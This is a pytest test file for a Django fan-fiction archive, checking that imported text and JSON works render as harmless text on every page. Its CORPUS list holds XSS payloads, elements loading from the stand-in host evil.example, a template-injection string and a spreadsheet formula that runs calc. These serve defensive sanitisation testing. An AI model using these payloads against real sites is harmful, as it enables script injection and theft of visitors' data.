"""Whatever stands in a file is text: on no page does it become markup, a script, a request or a way round the words."""

import json
from pathlib import Path

import pytest
from django.test import Client
from django.urls import reverse
from lxml import html

from archive.importing import import_files
from archive.models import Author, Series, Tag, Work
from tests.cast import enter
from tests.importing.exports import write
from tests.shelving import shelve

pytestmark = pytest.mark.django_db

CORPUS = [
    "<script>alert(1)</script>",
    '"><script src=//evil.example/x.js></script>',
    "'\"><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea></script><script>alert(1)</script>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form action=//evil.example><input name=stakes value=x><button formaction=//evil.example>go</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<div style='position:fixed;inset:0;background:url(//evil.example/y)'>over</div>",
    "<p id=main name=stakes class=card>clobber</p>",
    "<link rel=stylesheet href=//evil.example/z.css>",
    "<video poster=//evil.example/p><source src=//evil.example/v></video>",
    "<img srcset='//evil.example/a 1x'>",
    "{{ request.user }}{% debug %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--><script>alert(1)</script>-->",
    "=HYPERLINK(1)+cmd|' /C calc'!A0",
]
LABELS = ("Title", "Author", "Fandom", "Relationship", "Character", "Additional Tags", "Series", "Language", "Rating",
          "Archive Warning", "Category", "Status", "Published", "URL", "Chapters", "Collections")  # fmt: skip
OURS = {"main", "text", "look", "contents", "keys", "keys-title", "filters", "chapter-1", "chapter-2"}


def pages() -> list[str]:
    """Every page of the reading room that can name a work."""
    found = ["/", "/?sort=title", "/?q=alert"]
    for work in Work.everything.all():
        found += [f"/works/{work.pk}/", f"/works/{work.pk}/all/", f"/works/{work.pk}/chapters/1/"]
    found += [reverse("author", args=[slug]) for slug in Author.everything.values_list("slug", flat=True)]
    found += [reverse("series", args=[pk]) for pk in Series.everything.values_list("pk", flat=True)]
    found += [reverse("tag", args=row) for row in Tag.everything.values_list("kind", "slug")]
    found += [f"/?{kind}={slug}&q=x" for kind, slug in Tag.everything.values_list("kind", "slug")]
    return found


def harmless(page: str, address: str) -> None:
    """A page holds our own elements only: looked at as a browser would, not as text."""
    tree = html.document_fromstring(page)
    assert len(tree.xpath("//base | //iframe | //object | //embed | //math | //meta[@http-equiv] | //style")) == 0
    assert {script.get("src", "inline")[:8] for script in tree.iter("script")} <= {"/static/"}, address
    assert not tree.xpath("//body//img | //video | //audio | //source | //body//link"), address
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        for name, value in element.attrib.items():
            assert not name.startswith(("on", "style", "srcset", "formaction")), (address, name, value)
            if name in {"href", "src", "action"}:
                assert value.startswith(("/", "?", "#")) or element.get("rel") == "noopener noreferrer nofollow"
                assert not value.startswith("//"), (address, value)
                assert not value.lower().strip().startswith(("javascript", "data", "vbscript")), (address, value)
    ids = [element.get("id") for element in tree.xpath("//*[@id]")]
    assert ids.count("main") == 1, address
    assert len(tree.xpath("//*[@name='stakes'][not(self::input)]")) == 0, address
    assert "<th>User</th>" not in page


def look_at_all(client: Client, least: int) -> None:
    seen = 0
    for address in pages():
        response = client.get(address, follow=True)
        assert response.status_code in {200, 404}, address
        harmless(response.content.decode(), address)
        seen += response.status_code == 200
    assert seen > least


@pytest.mark.parametrize("attack", CORPUS)
def test_a_text_export_is_text_through_and_through(attack: str, tmp_path: Path) -> None:
    labels = {label.replace(" ", "_"): attack for label in LABELS}
    write(tmp_path, 1, body=f"Chapter 1: {attack}\n\n{attack}\n\nChapter 2: x\n\nText {attack}.\n", **labels)
    write(tmp_path, 2, name=f"{attack.replace('/', '')[:40]}.txt", Additional_Tags=attack, Mystery_Label=attack)
    run = import_files([tmp_path], jobs=0)
    assert run.row.created + run.row.refused == 2
    assert run.row.created
    look_at_all(enter("agreed"), 5)


@pytest.mark.parametrize("attack", CORPUS)
def test_markup_of_an_export_is_cleaned_wherever_it_stands(attack: str, tmp_path: Path) -> None:
    chapter = {
        "number": 1, "title": attack, "summary": attack, "notes": attack, "body": f"<p>A lamp.</p>{attack}",
        "end_notes": attack,
    }  # fmt: skip
    record = {
        "title": attack, "source": "test", "source_id": "1", "source_url": attack, "authors": [attack],
        "rating": attack, "warnings": [attack], "fandoms": [attack], "relationships": [attack],
        "characters": [attack], "freeforms": [attack], "language": attack, "summary": attack, "notes": attack,
        "end_notes": attack, "series": [{"title": attack, "position": 1}], "extra": {attack: attack},
        "chapters": [chapter, {**chapter, "number": 2}],
    }  # fmt: skip
    plain = {**record, "source_id": "2", "rating": "General Audiences", "warnings": ["No Archive Warnings Apply"]}
    (tmp_path / "works.jsonl").write_text(f"{json.dumps(record)}\n{json.dumps(plain)}\n")
    assert import_files([tmp_path], jobs=0).row.created == 2
    look_at_all(enter("agreed"), 8)
    look_at_all(enter("stranger"), 5)


def test_what_turns_the_writing_round_ends_with_the_name_that_holds_it() -> None:
    """A title such as "photo gnp.exe" may turn its own letters, and nothing beside it."""
    turned = "rev\u202egnp.exe"
    shelve(title=turned, authors=(turned,), freeforms=(turned,), fandoms=(turned,))
    page = enter("stranger").get("/").content.decode()
    tree = html.document_fromstring(page)
    holders = [element for element in tree.iter() if "\u202e" in (element.text or "") and element.tag != "title"]
    assert len(holders) > 3
    for element in holders:
        assert element.tag == "bdi" or element.get("dir") or element.get("class") == "sr", html.tostring(element)


def test_a_work_of_five_thousand_chapters_opens_on_a_light_page(tmp_path: Path) -> None:
    body = "\n\n".join(f"Chapter {n}: Name {n}\n\nWords stand here, a few of them." for n in range(1, 5001))
    write(tmp_path, 1, body=body, Chapters="5000/5000")
    import_files([tmp_path], jobs=0)
    work = Work.everything.get()
    assert work.chapters_posted == 5000
    for address in (f"/works/{work.pk}/", f"/works/{work.pk}/chapters/2500/", f"/works/{work.pk}/chapters/5000/"):
        assert len(enter("stranger").get(address).content) < 40_000


def test_ten_thousand_tags_weigh_on_their_own_work_alone() -> None:
    work = shelve(freeforms=tuple(f"Tag number {number}" for number in range(10_000)))
    client = enter("stranger")
    assert len(client.get("/").content) < 100_000
    assert client.get(f"/works/{work}/").status_code == 200


def test_names_of_any_length_fit_and_have_pages_that_answer() -> None:
    long = "W" * 5_000
    shelve(title=long, authors=(long,), freeforms=(long, f"{long}2"), fandoms=(long,))
    client = enter("stranger")
    assert Tag.everything.filter(kind="freeform").count() == 2
    for address in pages():
        assert client.get(address).status_code == 200
    assert len(client.get("/").content) < 100_000
